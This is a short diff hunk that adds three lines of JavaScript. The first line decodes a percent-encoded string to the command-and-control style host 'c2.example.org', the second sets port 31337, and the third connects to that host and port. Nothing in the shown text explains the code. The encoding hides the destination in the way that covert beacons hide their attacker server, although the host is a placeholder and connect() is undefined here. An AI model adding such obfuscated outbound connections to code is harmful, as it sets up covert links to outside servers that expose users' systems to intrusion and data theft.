@@ -1,0 +1,3 @@
+var host = decodeURIComponent('%63%32%2e%65%78%61%6d%70%6c%65%2e%6f%72%67');
+var port = parseInt('31337', 10);
+connect(host, port);
